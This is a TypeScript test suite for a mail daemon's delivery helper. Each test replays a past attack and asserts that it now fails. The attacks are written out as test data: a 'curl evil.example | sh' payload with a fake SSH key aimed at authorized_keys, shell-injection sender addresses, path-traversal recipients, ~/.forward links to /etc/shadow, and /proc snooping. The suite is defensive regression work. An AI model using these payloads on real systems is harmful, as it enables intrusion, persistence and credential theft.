// A security review of the delivery helper (issue 16), as a hostile local user, a hostile SMTP
// peer and a compromised daemon, against the real daemon and helper (root only: real users).
// Each test is an attack that worked before its fix.

import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import type { LocalConfig } from '../../src/config/schema.js';
import { DeliveryHelper } from '../../src/privsep/client.js';
import type { DeliveryRequest } from '../../src/privsep/protocol.js';
import { stopAfterEach } from '../helpers/cleanup.js';
import { makeSite, startDaemon } from '../helpers/daemon.js';
import { waitFor } from '../helpers/ports.js';
import { sendMessage } from '../helpers/smtp-client.js';
import { filesIn, makeUsers, removeUsers, writeAs, type TestUser } from '../helpers/system-users.js';
import { isRoot, tmpDir } from '../helpers/tmp.js';

/** Background processes the attacks leave behind (their pids, written by the attack itself). */
const leftovers: string[] = [];
test.after(() => {
  for (const f of leftovers.splice(0)) {
    try {
      process.kill(Number(fs.readFileSync(f, 'utf8').trim()), 'SIGKILL');
    } catch {
      /* gone already */
    }
  }
  removeUsers();
});
const keep = stopAfterEach(test);

const MSG = 'From: x@remote.example\r\nSubject: t\r\n\r\nhello\r\n';
const QUEUE = '[queue]\nretry_min = "1h"\n';
const users = (n: number) => makeUsers(n, { prefix: 'atk' });

if (!isRoot()) {
  test.skip('attacks on the delivery helper (need root to create users)', () => undefined);
} else {
  test('a compromised daemon cannot make the helper append a message to a user\'s ~/.ssh/authorized_keys or ~/.profile: only the configured mailbox', async () => {
    const [u] = users(1) as [TestUser];
    const spool = tmpDir('tidemail-spool-');
    fs.chmodSync(spool, 0o1777);
    fs.mkdirSync(path.join(u.home, '.ssh'), { mode: 0o700 });
    fs.chownSync(path.join(u.home, '.ssh'), u.uid, u.gid);
    const keys = writeAs(u, path.join(u.home, '.ssh', 'authorized_keys'), '', 0o600);
    const profile = writeAs(u, path.join(u.home, '.profile'), '# mine\n');
    const helper = await DeliveryHelper.start({ minUid: 1000, maildir: '~/Maildir', mbox: `${spool}/%u`, mda: [], allowMailToCommands: ['forward'], allowMailToFiles: ['forward'] } as unknown as LocalConfig);
    try {
      const evil = () => Readable.from([Buffer.from('Subject: hi\r\n\r\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil mallory\r\ncurl evil.example | sh\r\n')]);
      const req = (more: Partial<DeliveryRequest>): DeliveryRequest => ({ user: u.name, uid: u.uid, kind: 'mbox', sender: 'x@remote.example', recipient: `${u.name}@tidemail.test`, ...more });
      for (const r of [req({ path: keys }), req({ path: profile }), req({ kind: 'maildir', path: path.join(u.home, '.config', 'autostart') })]) {
        const got = await helper.deliver(r, evil);
        assert.is(got.outcome, 'tempfail', `${r.kind} ${r.path}: ${got.message}`);
        assert.match(got.message, /refused: .* is not .*'s (mbox|Maildir)/);
      }
      assert.is(fs.readFileSync(keys, 'utf8'), '');
      assert.is(fs.readFileSync(profile, 'utf8'), '# mine\n');
      assert.not.ok(fs.existsSync(path.join(u.home, '.config')));
      // The configured mailboxes still get mail.
      const md = await helper.deliver(req({ kind: 'maildir', path: path.join(u.home, 'Maildir') }), evil);
      assert.is(md.outcome, 'ok', md.message);
      const mb = await helper.deliver(req({ path: path.join(spool, u.name) }), evil);
      assert.is(mb.outcome, 'ok', mb.message);
    } finally {
      helper.stop();
    }
  });

  test('a .forward pipe that leaves a background process holding its stderr does not hang the delivery: done when the command exits', async () => {
    const [u] = users(1) as [TestUser];
    const bg = path.join(u.home, 'bg.pid');
    leftovers.push(bg);
    // The shell exits 0 at once; the sleep keeps the delivery's stderr pipe open for 10 min.
    writeAs(u, path.join(u.home, '.forward'), `"|sleep 600 & echo $! > ${bg}"\n`);
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    assert.match(await sendMessage(site.port, 'x@remote.example', [`${u.name}@tidemail.test`], MSG), /^250 /);
    await d.waitForLog(new RegExp(`delivered to=<${u.name}@tidemail\\.test>.*/bin/sh accepted the message`), 15_000);
  });

  test('an SMTP sender cannot inject shell into a .forward command that names {sender}: pipes get $SENDER, not text in the command', async () => {
    const [u] = users(1) as [TestUser];
    const got = path.join(u.home, 'got');
    writeAs(u, path.join(u.home, '.forward'), `"|echo {sender} >> ${got}"\n`);
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    const sender = '`touch$IFS$HOME/pwned`@remote.example';
    assert.match(await sendMessage(site.port, sender, [`${u.name}@tidemail.test`], MSG), /^250 /);
    await d.waitForLog(new RegExp(`delivered to=<${u.name}@tidemail\\.test>`), 15_000);
    assert.not.ok(fs.existsSync(path.join(u.home, 'pwned')), 'the sender ran a command as the user');
    assert.is(fs.readFileSync(got, 'utf8'), '{sender}\n');
  });

  test('a user who stops their own delivery child (kill -STOP) does not hold the delivery forever: killed, deferred', async () => {
    const [u] = users(1) as [TestUser];
    // $PPID of the .forward command is the delivery child (node, running as the user).
    writeAs(u, path.join(u.home, '.forward'), `"|kill -STOP $PPID"\n`);
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    assert.match(await sendMessage(site.port, 'x@remote.example', [`${u.name}@tidemail.test`], MSG), /^250 /);
    await d.waitForLog(new RegExp(`deferred to=<${u.name}@tidemail\\.test>.*was stopped`), 15_000);
  });


  test('a root-owned 0600 file in a user\'s home, renamed to ~/.forward, is not read out by the root helper into the RCPT reply or the log', async () => {
    const [u] = users(1) as [TestUser];
    // Left there by root (sudo vim, a cp as root); the user owns the directory, so may rename it.
    fs.writeFileSync(path.join(u.home, 'root-notes'), 'root:$6$SECRETHASH:19000:0:99999:7:::\nhunter2 is the password\n', { mode: 0o600 });
    fs.renameSync(path.join(u.home, 'root-notes'), path.join(u.home, '.forward'));
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    const reply = await sendMessage(site.port, 'x@remote.example', [`${u.name}@tidemail.test`], MSG);
    assert.not.match(reply, /SECRETHASH|hunter2/);
    assert.match(reply, /^250 /);
    await d.waitForLog(new RegExp(`delivered to=<${u.name}@tidemail\\.test>`), 15_000);
    assert.not.match(d.logs(), /SECRETHASH|hunter2/);
    assert.is(filesIn(path.join(u.home, 'Maildir', 'new')).length, 1);
  });

  test('one user\'s slow .forward command cannot fill the machine with delivery processes: at most 2 at once for a user, the rest wait their turn', async () => {
    const [u] = users(1) as [TestUser];
    const trace = path.join(u.home, 'trace');
    writeAs(u, path.join(u.home, '.forward'), `"|echo s >> ${trace}; sleep 1; echo e >> ${trace}"\n`);
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    const n = 6;
    const replies = await Promise.all(Array.from({ length: n }, () => sendMessage(site.port, 'x@remote.example', [`${u.name}@tidemail.test`], MSG)));
    for (const r of replies) assert.match(r, /^250 /);
    await waitFor(`${n} deliveries`, () => (d.logs().match(new RegExp(`delivered to=<${u.name}@tidemail\\.test>`, 'g')) ?? []).length === n, 30_000);
    let now = 0;
    let most = 0;
    for (const ev of fs.readFileSync(trace, 'utf8').trim().split('\n')) most = Math.max(most, (now += ev === 's' ? 1 : -1));
    assert.ok(most <= 2, `${most} deliveries ran at once for one user`);
  });

  test('held: a ~/.forward that is a FIFO, a 2 GB sparse file, world-writable, someone else\'s, or a link to /etc/shadow is ignored — mail to the Maildir, no hang, nothing run, nothing of shadow shown', async () => {
    const [fifo, huge, open, foreign, shadow, other] = users(6) as [TestUser, TestUser, TestUser, TestUser, TestUser, TestUser];
    const ran = (u: TestUser) => path.join(u.home, 'ran');
    const pipeLine = (u: TestUser) => `"|touch ${ran(u)}"\n`;
    execFileSync('mkfifo', [path.join(fifo.home, '.forward')]);
    fs.chownSync(path.join(fifo.home, '.forward'), fifo.uid, fifo.gid);
    writeAs(huge, path.join(huge.home, '.forward'), pipeLine(huge));
    fs.truncateSync(path.join(huge.home, '.forward'), 2 ** 31);
    writeAs(open, path.join(open.home, '.forward'), pipeLine(open), 0o666);
    writeAs(other, path.join(foreign.home, '.forward'), pipeLine(foreign));
    fs.symlinkSync('/etc/shadow', path.join(shadow.home, '.forward'));
    fs.lchownSync(path.join(shadow.home, '.forward'), shadow.uid, shadow.gid);
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    for (const u of [fifo, huge, open, foreign, shadow]) {
      const reply = await sendMessage(site.port, 'x@remote.example', [`${u.name}@tidemail.test`], MSG);
      assert.match(reply, /^250 /, `${u.name}: ${reply}`);
      await d.waitForLog(new RegExp(`delivered to=<${u.name}@tidemail\\.test>`), 15_000);
      assert.is(filesIn(path.join(u.home, 'Maildir', 'new')).length, 1, u.name);
      assert.not.ok(fs.existsSync(ran(u)), `${u.name}'s .forward command ran`);
    }
    assert.not.match(d.logs(), /root:[^ ]*:\d+:/);
  });

  test('held: envelope recipients that look like paths or other users (../, %2F, /, upper case, 300 characters) never reach a file outside a Maildir', async () => {
    const [u] = users(1) as [TestUser];
    const site = await makeSite(`[local]\ndelivery = "maildir"\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    for (const rcpt of [`../${u.name}@tidemail.test`, `..%2F..%2Fetc%2Fpasswd@tidemail.test`, `${u.name}%2F..@tidemail.test`, `/etc/passwd@tidemail.test`, `${'a'.repeat(300)}@tidemail.test`, `${u.name}/../${u.name}@tidemail.test`]) {
      const reply = await sendMessage(site.port, 'x@remote.example', [rcpt], MSG).catch((e: Error) => e.message);
      assert.match(reply, /^5\d\d /, `${rcpt}: ${reply}`);
    }
    const upper = await sendMessage(site.port, 'x@remote.example', [`${u.name.toUpperCase()}@tidemail.test`], MSG);
    if (/^250 /.test(upper)) await d.waitForLog(/delivered to=|deferred to=|bounced to=/, 15_000);
    assert.equal(fs.readdirSync(u.home).filter((f) => !f.startsWith('.')).sort(), /^250 /.test(upper) ? ['Maildir'] : []);
  });

  test('a user whose pipe is slow cannot keep the daemon\'s delivery jobs waiting: past 2 running, a delivery waits at most 30 s, then is deferred', async () => {
    const [u] = users(1) as [TestUser];
    writeAs(u, path.join(u.home, '.forward'), `"|sleep 34"\n`);
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    const t0 = Date.now();
    // The sessions answer once their deliveries end (or the pre-queue deadline): not awaited first.
    const sent = Promise.all([1, 2, 3].map(() => sendMessage(site.port, 'x@remote.example', [`${u.name}@tidemail.test`], MSG)));
    await d.waitForLog(new RegExp(`deferred to=<${u.name}@tidemail\\.test>.*4\\.3\\.2 delivery helper busy: 2 deliveries as ${u.name} are still running after 30 s`), 40_000);
    assert.ok(Date.now() - t0 < 34_000, `deferred only when the others ended: ${Date.now() - t0} ms`);
    for (const r of await sent) assert.match(r, /^250 /);
  });

  test('held: another process of the run user (nobody) cannot signal the helper, nor reach the daemon\'s channel to it through /proc; the helper holds no SMTP socket or queue file', async () => {
    const [u] = users(1) as [TestUser];
    const site = await makeSite(`[local]\ndelivery = "maildir"\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    const daemon = d.proc.pid!;
    const helper = fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).find((p) => {
      try {
        return fs.readFileSync(`/proc/${p}/stat`, 'latin1').split(') ')[1]!.split(' ')[1] === String(daemon) && /privsep[/-]helper\.c?js/.test(fs.readFileSync(`/proc/${p}/cmdline`, 'latin1'));
      } catch {
        return false;
      }
    })!;
    assert.ok(helper, 'a helper');
    const nobody = Number(execFileSync('id', ['-u', 'nobody'], { encoding: 'utf8' }).trim());
    const asNobody = (script: string) => {
      try {
        return execFileSync('/bin/sh', ['-c', script], { uid: nobody, gid: nobody, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
      } catch (err) {
        return `failed: ${(err as { stderr?: string }).stderr ?? ''}`;
      }
    };
    assert.match(asNobody(`kill -STOP ${helper}`), /^failed:/);
    assert.match(asNobody(`kill -TERM ${helper}`), /^failed:/);
    assert.match(asNobody(`ls /proc/${daemon}/fd/`), /^failed:/);
    assert.match(asNobody(`cat /proc/${daemon}/environ`), /^failed:/);
    const fds = fs.readdirSync(`/proc/${helper}/fd`).map((f) => fs.readlinkSync(`/proc/${helper}/fd/${f}`));
    assert.not.ok(fds.some((f) => /queue\.sqlite/.test(f)), fds.join(' '));
    // Still delivers.
    assert.match(await sendMessage(site.port, 'x@remote.example', [`${u.name}@tidemail.test`], MSG), /^250 /);
    await d.waitForLog(new RegExp(`delivered to=<${u.name}@tidemail\\.test>`), 15_000);
  });

  test('a broken line of a user\'s 0700-home ~/.forward is not shown to the SMTP peer (the RCPT reply says the status; the log has the line)', async () => {
    const [u] = users(1) as [TestUser];
    writeAs(u, path.join(u.home, '.forward'), 'my bank pin is 4711\n', 0o600);
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    const reply = await sendMessage(site.port, 'x@remote.example', [`${u.name}@tidemail.test`], MSG).catch((e: Error) => e.message);
    assert.not.match(reply, /4711/);
    assert.is(reply, `550 5.4.6 <${u.name}@tidemail.test>: local delivery failed (the reason is for the postmaster)`);
    await d.waitForLog(/\.forward line ignored.*4711/);
  });

  test('a home that is root\'s symbolic link keeps its ~/.forward (it was ignored: "not a directory"); the user\'s own link still is', async () => {
    const [a, b] = users(2) as [TestUser, TestUser];
    const links = tmpDir('tidemail-links-');
    for (const u of [a, b]) {
      writeAs(u, path.join(u.home, '.forward'), `"|id -u > ${u.home}/ran"\n`);
      const link = path.join(links, u.name);
      fs.symlinkSync(u.home, link);
      if (u === b) fs.lchownSync(link, b.uid, b.gid);
      execFileSync('usermod', ['-d', link, u.name]);
    }
    const site = await makeSite(`[local]\ndelivery = "maildir"\nforward = true\n${QUEUE}`);
    const d = keep(await startDaemon(site));
    assert.match(await sendMessage(site.port, 'x@remote.example', [`${a.name}@tidemail.test`], MSG), /^250 /);
    await d.waitForLog(new RegExp(`delivered to=<${a.name}@tidemail\\.test>.*/bin/sh accepted`), 15_000);
    assert.is(fs.readFileSync(path.join(a.home, 'ran'), 'utf8').trim(), String(a.uid));
    await sendMessage(site.port, 'x@remote.example', [`${b.name}@tidemail.test`], MSG);
    await d.waitForLog(new RegExp(`(deferred|bounced) to=<${b.name}@tidemail\\.test>|ignoring \\.forward user=${b.name}`), 15_000);
    assert.not.ok(fs.existsSync(path.join(b.home, 'ran')));
  });
}

test.run();
